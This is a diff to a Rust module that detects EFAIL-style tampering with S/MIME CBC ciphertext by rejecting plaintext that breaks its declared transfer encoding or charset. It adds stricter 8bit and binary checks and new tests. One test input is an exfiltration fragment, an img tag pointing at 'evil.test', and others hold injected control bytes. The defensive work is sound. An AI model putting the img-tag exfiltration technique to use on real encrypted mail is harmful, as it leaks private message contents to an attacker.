@@ -1,8 +1,8 @@
 //! Signs that CBC ciphertext was rearranged (EFAIL, CVE-2017-17689).
 //!
 //! CBC detects no change. Whoever inserts blocks to splice text into a stranger's mail leaves 16 random octets
-//! for each; these are neither UTF-8 nor free of control characters, but what S/MIME clients encrypt is, unless
-//! it says `8bit` or `binary`. So a plaintext that breaks its own transfer encoding is not believed.
+//! for each; these are neither UTF-8 nor free of control characters, but what S/MIME clients encrypt is. So a
+//! plaintext that breaks its own transfer encoding is not believed.
 
 use mail::{Entity, limits};
 
@@ -30,10 +30,24 @@ fn is_clean(entity: &Entity<'_>, depth: usize) -> bool {
         .field("Content-Transfer-Encoding")
         .map(|field| field.text().to_ascii_lowercase())
         .unwrap_or_default();
-    if matches!(encoding.as_str(), "8bit" | "binary") {
-        return true;
+    let body = entity.body();
+    let content_type = entity.content_type();
+    match encoding.as_str() {
+        "8bit" | "binary" if content_type.is("message", "rfc822") => {
+            is_clean(&Entity::parse(body), depth + 1)
+        }
+        // What programs open, not readers of mail, may have any octets.
+        "8bit" | "binary" if content_type.kind != "text" => true,
+        "8bit" | "binary" if says_utf8(entity) => std::str::from_utf8(body).is_ok(),
+        "8bit" | "binary" => has_no_control(body),
+        _ => is_text(body) || (has_other_charset(entity) && has_no_control(body)),
     }
-    is_text(entity.body()) || (has_other_charset(entity) && has_no_control(entity.body()))
+}
+
+fn says_utf8(entity: &Entity<'_>) -> bool {
+    let content_type = entity.content_type();
+    let charset = content_type.param("charset");
+    charset.is_some_and(|charset| charset.eq_ignore_ascii_case("utf-8"))
 }
 
 /// Old clients send text in an 8-bit charset without saying `8bit`.
@@ -73,6 +87,7 @@ mod tests {
             "Content-Type: text/plain\r\n\r\nhällo\r\n".as_bytes(),
             b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\nh\xe4llo\r\n",
             b"Content-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n\r\n\x89PNG\0",
+            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nh\xe4llo\r\n",
             b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhi\r\n--b--\r\n",
             b"",
         ] {
@@ -85,6 +100,9 @@ mod tests {
         for plaintext in [
             &b"Content-Type: \x8e\x02\xf1\x99 text/html\r\n\r\n<img src=\"http://evil.test/"[..],
             b"Content-Type: text/plain\r\n\r\nhello\x8e\x02\xf1\x99\r\n",
+            b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nh\xe4llo\r\n",
+            b"Content-Type: text/html\r\nContent-Transfer-Encoding: binary\r\n\r\nhello\x02\r\n",
+            b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 8bit\r\n\r\nSubject: a\r\n\r\nhello\x02\r\n",
             b"Content-Type: multipart/mixed; boundary=b\r\n\r\n\x8e\x02\r\n--b\r\n\r\nhi\r\n--b--\r\n",
             b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n\x8e\x02\r\n--b--\r\n",
         ] {
